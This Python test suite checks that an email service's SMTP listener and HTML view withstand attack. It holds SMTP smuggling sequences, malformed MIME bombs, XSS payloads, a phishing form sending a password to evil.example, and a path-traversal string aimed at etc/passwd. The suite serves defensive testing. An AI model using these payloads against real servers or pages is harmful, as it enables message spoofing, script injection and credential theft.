"""Attacks on the SMTP listener, hostile content, faults and the HTML view."""

from __future__ import annotations

import smtplib
import socket
import time

import pytest
from helpers import split_trace, wait_until


class RawSession:
    """A hand-driven SMTP connection, for what smtplib will not send."""

    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.file = self.sock.makefile("rb")
        self.banner = self.line()

    def line(self) -> bytes:
        return self.file.readline()

    def reply(self) -> bytes:
        """A whole (possibly multi-line) reply."""
        lines = [self.line()]
        while len(lines[-1]) > 3 and lines[-1][3:4] == b"-":
            lines.append(self.line())
        return b"".join(lines)

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def command(self, line: bytes) -> bytes:
        self.send(line + b"\r\n")
        return self.reply()

    def closed(self) -> bool:
        try:
            return self.sock.recv(1) == b""
        except OSError:
            return True

    def close(self) -> None:
        self.file.close()
        self.sock.close()


@pytest.fixture
def raw_session(harness):
    sessions = []

    def open_session(port=None):
        session = RawSession(port or harness.smtp_port)
        sessions.append(session)
        return session

    yield open_session
    for s in sessions:
        s.close()


def emails(h, key, inbox):
    return h.http.get(f"/api/v1/inbox/{inbox['id']}", headers=h.auth(key)).json()["data"]["emails"]


def start_data(session, rcpt):
    assert session.command(b"EHLO attacker.example").startswith(b"250")
    assert session.command(b"MAIL FROM:<a@example.com>").startswith(b"250")
    assert session.command(b"RCPT TO:<" + rcpt.encode() + b">").startswith(b"250")
    assert session.command(b"DATA").startswith(b"354")


# --- protocol attacks -----------------------------------------------------------


@pytest.mark.parametrize("fake_end", [b"\n.\r\n", b"\r\n.\n", b"\n.\n", b"\r.\r\n"])
def test_smuggled_end_of_data_never_splits_a_message(harness, raw_session, fake_end):
    key = harness.key()
    inbox = harness.create_inbox(key)
    session = raw_session()
    start_data(session, inbox["email"])
    smuggled = (
        b"Subject: outer\r\n\r\nhello" + fake_end
        + b"MAIL FROM:<evil@example.com>\r\nRCPT TO:<" + inbox["email"].encode() + b">\r\nDATA\r\n"
        + b"Subject: smuggled\r\n\r\nevil\r\n.\r\n"
    )
    session.send(smuggled)
    assert session.reply().startswith(b"250")
    assert session.command(b"QUIT").startswith(b"221")
    [email] = emails(harness, key, inbox)
    assert email["subject"] == "outer"
    assert "smuggled" in email["text"] and "MAIL FROM:<evil@example.com>" in email["text"]


def test_dot_stuffing_is_undone(harness, raw_session):
    key = harness.key()
    inbox = harness.create_inbox(key)
    session = raw_session()
    start_data(session, inbox["email"])
    session.send(b"Subject: dots\r\n\r\n..leading\r\n...two\r\n.\r\n")
    assert session.reply().startswith(b"250")
    [email] = emails(harness, key, inbox)
    raw = harness.http.get(f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}/raw", headers=harness.auth(key)).content
    trace, sent = split_trace(raw)
    assert sent == b"Subject: dots\r\n\r\n.leading\r\n..two\r\n"
    assert b"with ESMTP\r\n" in trace
    detail = harness.http.get(f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}", headers=harness.auth(key))
    assert detail.json()["data"]["tls"] is False


def test_commands_pipelined_behind_data_are_message_content(harness, raw_session):
    key = harness.key()
    inbox = harness.create_inbox(key)
    other = harness.create_inbox(key)
    session = raw_session()
    session.command(b"EHLO x")
    session.command(b"MAIL FROM:<a@example.com>")
    session.command(b"RCPT TO:<" + inbox["email"].encode() + b">")
    # DATA and, in the same packet, commands that must not run.
    session.send(b"DATA\r\nRCPT TO:<" + other["email"].encode() + b">\r\nSubject: p\r\n\r\nx\r\n.\r\n")
    assert session.reply().startswith(b"354")
    assert session.reply().startswith(b"250")
    assert len(emails(harness, key, inbox)) == 1
    assert emails(harness, key, other) == []


def test_starttls_is_refused_cleanly_and_later_commands_still_work(harness, raw_session):
    session = raw_session()
    ehlo = session.command(b"EHLO x")
    assert b"STARTTLS" not in ehlo
    reply = session.command(b"STARTTLS")
    assert reply[:1] == b"5" or reply[:3] == b"454"
    assert session.command(b"NOOP").startswith(b"250")


@pytest.mark.parametrize(
    "line,code",
    [
        (b"MAIL FROM:<\xff\xfe@example.com>", b"501 5.5.2"),  # not UTF-8 at all
        (b"MAIL FROM:<\xff\xfe@example.com> SMTPUTF8", b"501 5.5.2"),
        (b"MAIL FROM:<\xc3\xbcser@example.com>", b"553 5.6.7"),  # UTF-8 without SMTPUTF8 (RFC 6531)
    ],
)
def test_non_utf8_and_undeclared_utf8_envelopes_get_a_clear_5xx(raw_session, line, code):
    session = raw_session()
    session.command(b"EHLO x")
    reply = session.command(line)
    assert reply.startswith(code), reply
    assert session.command(b"NOOP").startswith(b"250")


def test_non_ascii_recipient_gets_5xx(harness, raw_session):
    session = raw_session()
    session.command(b"EHLO x")
    session.command(b"MAIL FROM:<a@example.com>")
    assert session.command("RCPT TO:<usér@dustmail.test>".encode()).startswith(b"5")


def test_overlong_command_and_body_lines(harness, raw_session):
    key = harness.key()
    inbox = harness.create_inbox(key)
    session = raw_session()
    session.command(b"EHLO x")
    assert session.command(b"NOOP " + b"x" * 2000).startswith(b"500")
    start_data(raw_session(), inbox["email"])  # a fresh session for the body
    body_session = raw_session()
    start_data(body_session, inbox["email"])
    body_session.send(b"Subject: long\r\n\r\n" + b"y" * 5000 + b"\r\n.\r\n")
    assert body_session.reply().startswith(b"500")
    assert emails(harness, key, inbox) == []


def test_line_length_limits_are_configurable(make_harness):
    h = make_harness(smtp={"max_line_length": 200, "max_command_length": 100})
    key = h.key()
    inbox = h.create_inbox(key)
    session = RawSession(h.smtp_port)
    try:
        session.command(b"EHLO x")
        assert session.command(b"NOOP " + b"x" * 150).startswith(b"500")
        assert session.command(b"NOOP " + b"x" * 50).startswith(b"250")
        session.command(b"MAIL FROM:<a@example.com>")
        session.command(b"RCPT TO:<" + inbox["email"].encode() + b">")
        assert session.command(b"DATA").startswith(b"354")
        session.send(b"Subject: l\r\n\r\n" + b"y" * 300 + b"\r\n.\r\n")
        assert session.reply().startswith(b"500")
    finally:
        session.close()
    h.send_raw(inbox["email"], b"Subject: ok\r\n\r\n" + b"y" * 150 + b"\r\n")
    assert [e["subject"] for e in emails(h, key, inbox)] == ["ok"]


def test_header_block_past_the_cap_is_552(make_harness):
    h = make_harness(smtp={"max_header_size": "16KB"})
    key = h.key()
    inbox = h.create_inbox(key)
    raw = b"".join(b"X-Filler-%d: %s\r\n" % (i, b"v" * 200) for i in range(100)) + b"\r\nbody\r\n"
    with pytest.raises(smtplib.SMTPDataError) as exc:
        h.send_raw(inbox["email"], raw)
    assert exc.value.smtp_code == 552
    assert emails(h, key, inbox) == []


def test_connection_limits_answer_421(make_harness):
    h = make_harness(smtp={"max_connections_per_ip": 2, "max_connections": 3})
    sessions = [RawSession(h.smtp_port) for _ in range(2)]
    try:
        assert all(s.banner.startswith(b"220") for s in sessions)
        third = RawSession(h.smtp_port)
        assert third.banner.startswith(b"421 4.7.0")
        assert third.closed()
        third.close()
        sessions[0].command(b"QUIT")
        sessions[0].close()
        wait_until(lambda: len(h.server.smtp.connections.sessions) == 1)
        fourth = RawSession(h.smtp_port)  # a slot was freed
        assert fourth.banner.startswith(b"220")
        sessions[0] = fourth
    finally:
        for s in sessions:
            s.close()


def test_error_budget_closes_the_session_with_421(make_harness):
    h = make_harness(smtp={"max_errors": 3})
    session = RawSession(h.smtp_port)
    try:
        session.command(b"EHLO x")
        session.command(b"MAIL FROM:<a@example.com>")
        assert session.command(b"RCPT TO:<guess1@dustmail.test>").startswith(b"550")
        assert session.command(b"RCPT TO:<guess2@dustmail.test>").startswith(b"550")
        reply = session.command(b"RCPT TO:<guess3@dustmail.test>")
        assert reply.startswith(b"550")
        assert session.line().startswith(b"421 4.7.0")
        assert session.closed()
    finally:
        session.close()


def test_idle_client_is_disconnected(make_harness):
    h = make_harness(smtp={"idle_timeout": "1s"})
    session = RawSession(h.smtp_port)
    try:
        start = time.monotonic()
        session.sock.settimeout(5)
        assert session.line().startswith(b"421 4.4.2")
        assert session.closed()
        assert time.monotonic() - start < 3
    finally:
        session.close()


def test_a_slow_upload_is_not_cut_by_the_idle_timeout_and_silence_counts_from_the_reply(make_harness):
    """The idle timer is for silence: a DATA body that keeps coming for longer than it is
    stored (the transaction deadline caps it), and after the 250 the client has the whole
    idle time again."""
    h = make_harness(smtp={"idle_timeout": "1s", "transaction_timeout": "30s"})
    key = h.key()
    inbox = h.create_inbox(key)
    session = RawSession(h.smtp_port)
    try:
        for line in (b"EHLO slow.example", b"MAIL FROM:<a@example.com>", f"RCPT TO:<{inbox['email']}>".encode()):
            assert session.command(line).startswith(b"250"), line
        assert session.command(b"DATA").startswith(b"354")
        session.send(b"Subject: slow upload\r\n\r\n")
        for _ in range(8):  # 1.6 s of upload against a 1 s idle timeout
            time.sleep(0.2)
            session.send(b"another line of the body\r\n")
        assert session.command(b".").startswith(b"250 2.0.0")
        time.sleep(0.6)  # most of the idle time, counted from the 250 (not from DATA)
        assert session.command(b"NOOP").startswith(b"250")
        session.sock.settimeout(5)
        assert session.line().startswith(b"421 4.4.2")  # silence still ends the session
    finally:
        session.close()
    emails = h.http.get(f"/api/v1/inbox/{inbox['id']}", headers=h.auth(key)).json()["data"]["emails"]
    assert [e["subject"] for e in emails] == ["slow upload"]


def test_help_lists_the_commands_served_and_explains_each(make_harness):
    h = make_harness()
    session = RawSession(h.smtp_port)
    try:
        assert session.command(b"EHLO x").startswith(b"250")
        listed = session.command(b"HELP")
        assert listed.startswith(b"250 Supported commands:"), listed
        commands = listed.split(b":", 1)[1].split()
        assert {b"EHLO", b"MAIL", b"RCPT", b"DATA", b"QUIT"} <= set(commands) and b"AUTH" not in commands
        assert session.command(b"HELP MAIL").startswith(b"250 Syntax: MAIL FROM: <address>")
        assert session.command(b"HELP RCPT").startswith(b"250 Syntax: RCPT TO: <address>")
        assert session.command(b"HELP DATA").startswith(b"250 Syntax: DATA")
    finally:
        session.close()


# --- hostile content -----------------------------------------------------------


def deep_nesting(levels: int) -> bytes:
    head = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i) for i in range(levels))
    tail = b"Content-Type: text/plain\r\n\r\nleaf\r\n" + b"".join(b"--b%d--\r\n" % i for i in reversed(range(levels)))
    return b"Subject: deep\r\nMIME-Version: 1.0\r\n" + head + tail


def many_parts(count: int) -> bytes:
    body = b"".join(b"--x\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i for i in range(count))
    return b'Subject: wide\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n' + body + b"--x--\r\n"


HOSTILE = {
    "broken headers": b"Subject: =?utf-8?q?unterminated\r\nFrom: <<<>>>@@\r\nTo: ,,,\r\n: no name\r\nNo-Colon-Line\r\n\r\nbody\r\n",
    "unknown charset": b"Subject: =?x-klingon?q?qapla?=\r\nContent-Type: text/plain; charset=x-klingon\r\n\r\n\xe9\xff body\r\n",
    "10,000 parts": many_parts(10_000),
    "2,000 nesting levels": deep_nesting(2_000),
    "250 KB of headers": b"Subject: big\r\n" + b"".join(b"X-H%d: %s\r\n" % (i, b"v" * 100) for i in range(2200)) + b"\r\nbody\r\n",
    "NUL bytes": b"Subject: nul\x00here\r\nFrom: a\x00@example.com\r\n\r\nbody\x00with\x00nuls\r\n",
    "invalid base64": b"Subject: b64\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not*base64===\r\n",
    "8-bit garbage": b"Subject: \xff\xfe\xfd\r\nFrom: \xc3\x28@example.com\r\n\r\n\x80\x81\x82\r\n",
    "no header block": b"just a body line with no headers at all\r\n",
    "bad boundary": b'Content-Type: multipart/mixed; boundary=""\r\nSubject: mp\r\n\r\n--\r\nstuff\r\n',
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_messages_are_stored_raw_with_best_effort_fields(live, name):
    key = live.key("h", "premium")
    inbox = live.create_inbox(key)
    raw = HOSTILE[name]
    with smtplib.SMTP("127.0.0.1", live.smtp_port, timeout=120) as smtp:  # a loaded machine is slow
        smtp.sendmail("sender@example.com", [inbox["email"]], raw)
    # The API still serves the inbox, the email and the exact raw bytes.
    view = live.http.get(f"/api/v1/inbox/{inbox['id']}", headers=live.auth(key))
    assert view.status_code == 200
    [email] = view.json()["data"]["emails"]
    detail = live.http.get(f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}", headers=live.auth(key))
    assert detail.status_code == 200
    if name in ("10,000 parts", "2,000 nesting levels"):
        # Parsing is bounded by structure, not by luck: past the limits only the raw is kept.
        # (How long such a message takes is a figure in bench/: costly_parse.)
        assert detail.json()["data"]["parse_error"] == "too_complex"
    got = live.http.get(f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}/raw", headers=live.auth(key))
    assert split_trace(got.content)[1] == raw
    assert live.http.get(f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}/html", headers=live.auth(key)).status_code == 200


def test_parsing_a_costly_message_does_not_stall_the_event_loop(live):
    """While 10,000-part messages are received and parsed (in the worker pool), the API keeps
    answering: HTTP responses complete while each transaction is under way. How long the API
    takes meanwhile is a figure in bench/ (costly_parse), not a bound here."""
    import threading

    key = live.key("h", "premium")
    inbox = live.create_inbox(key)
    done = threading.Event()
    transactions: list[tuple[float, float]] = []
    answered: list[float] = []

    def sender():
        try:
            raw = many_parts(10_000)
            with smtplib.SMTP("127.0.0.1", live.smtp_port, timeout=120) as smtp:  # a loaded machine is slow
                for _ in range(3):
                    started = time.monotonic()
                    smtp.sendmail("sender@example.com", [inbox["email"]], raw)
                    transactions.append((started, time.monotonic()))
        finally:
            done.set()

    thread = threading.Thread(target=sender)
    thread.start()
    while not done.is_set():
        assert live.http.get("/api/v1/health").status_code == 200
        answered.append(time.monotonic())
        time.sleep(0.005)
    thread.join()
    assert len(transactions) == 3
    during = [t for t in answered if any(start < t < end for start, end in transactions)]
    assert during, "no HTTP response completed while a costly message was being received and parsed"
    emails = live.http.get(f"/api/v1/inbox/{inbox['id']}", headers=live.auth(key)).json()["data"]["emails"]
    assert len(emails) == 3


# --- faults --------------------------------------------------------------------


@pytest.mark.sqlite_only(reason="fills the SQLite file with PRAGMA max_page_count")
def test_disk_full_answers_451_and_writes_nothing(harness):
    key = harness.key()
    inbox = harness.create_inbox(key)
    store = harness.server.store

    async def cap_pages(n):
        await store._writer.execute(f"PRAGMA max_page_count = {n}")

    async def page_count():
        return await store._fetchval(store._writer, "PRAGMA page_count")

    pages = harness.run(page_count)
    harness.run(cap_pages, pages + 2)  # "disk full" as SQLite sees it: SQLITE_FULL
    try:
        with pytest.raises(smtplib.SMTPDataError) as exc:
            harness.send_raw(inbox["email"], b"Subject: big\r\n\r\n" + (b"z" * 76 + b"\r\n") * 2000)
        assert exc.value.smtp_code == 451
        assert harness.http.get(f"/api/v1/inbox/{inbox['id']}", headers=harness.auth(key)).json()["meta"]["email_count"] == 0
    finally:
        harness.run(cap_pages, 1_000_000_000)
    harness.send(inbox["email"], subject="after")
    assert [e["subject"] for e in emails(harness, key, inbox)] == ["after"]
    assert harness.run(store.integrity_check) == "ok"


# --- HTML view -----------------------------------------------------------------

HOSTILE_HTML = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<script>alert('script')</script></head><body onload="alert('onload')">
<p onclick="alert('click')">Hi <a href="javascript:alert('js')">js</a> <a href="https://ok.example/x">ok</a></p>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<img src="https://tracker.example/pixel.gif" onerror="alert('img')"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<iframe src="https://evil.example"></iframe><svg onload="alert('svg')"></svg></body></html>"""


def test_html_view_is_sanitized_with_a_strict_csp_and_json_keeps_the_original(harness):
    key = harness.key()
    inbox = harness.create_inbox(key)
    harness.send(inbox["email"], subject="phish", html=HOSTILE_HTML)
    [email] = emails(harness, key, inbox)
    assert "<script>" in email["html"]  # the JSON API serves the original, as the contract says
    r = harness.http.get(f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}/html", headers=harness.auth(key))
    assert r.status_code == 200 and r.headers["content-type"] == "text/html; charset=utf-8"
    page = r.text.lower()
    for banned in ("<script", "onload", "onclick", "onerror", "javascript:", "<form", "<input", "<base",
                   "http-equiv", "<iframe", "<svg", "tracker.example"):
        assert banned not in page, banned
    assert 'href="https://ok.example/x"' in page and "data:image/gif" in page
    csp = r.headers["content-security-policy"]
    assert csp.startswith("sandbox;") and "default-src 'none'" in csp and "script-src" not in csp
    assert "img-src data: cid:;" in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"
    with_images = harness.http.get(
        f"/api/v1/inbox/{inbox['id']}/emails/{email['id']}/html", params={"images": "1"}, headers=harness.auth(key)
    )
    assert "tracker.example" in with_images.text and "https:" in with_images.headers["content-security-policy"]


# --- API abuse -----------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/inbox/%00",
        "/api/v1/inbox/" + "a" * 5000,
        "/api/v1/inbox/..%2F..%2Fetc%2Fpasswd",
        "/api/v1/inbox/00000000-0000-4000-8000-000000000000/emails/%ff",
        "/api/v1/inbox/00000000-0000-4000-8000-000000000000/emails/x/attachments/../../raw",
        "/api/v1/domains/%00/verify",
    ],
)
def test_junk_paths_never_500(harness, path):
    key = harness.key("p", "premium")
    for method in ("get", "post", "delete"):
        r = getattr(harness.http, method)(path, headers=harness.auth(key))
        assert r.status_code in (404, 405, 422), (method, path, r.status_code)
        assert r.json()["success"] is False
